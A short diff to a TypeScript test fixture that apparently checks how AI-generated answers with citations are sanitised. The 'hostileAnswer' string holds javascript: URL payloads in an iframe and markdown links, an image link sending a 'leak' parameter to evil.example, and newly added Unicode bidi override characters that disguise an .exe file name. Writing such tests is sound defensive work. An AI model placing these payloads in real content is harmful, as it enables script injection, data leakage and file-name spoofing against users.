@@ -214,14 +214,14 @@ const hostileEvidence: Evidence[] = [
     text: attack,
   },
 ];
-const hostileAnswer = `${attack} [1] <iframe src="javascript:window.pwned=1"></iframe>
+const hostileAnswer = `${attack} \u202Egnp.exe\u202C [1] <iframe src="javascript:window.pwned=1"></iframe>
 
 [click](javascript:window.pwned=1) ![x](https://evil.example/x.png?leak=1) [ok](https://example.com "t")
 
 [1]: javascript:window.pwned=1
 
 \`\`\`html
-${attack}
+${attack} \u2066
 \`\`\`
 `;
 
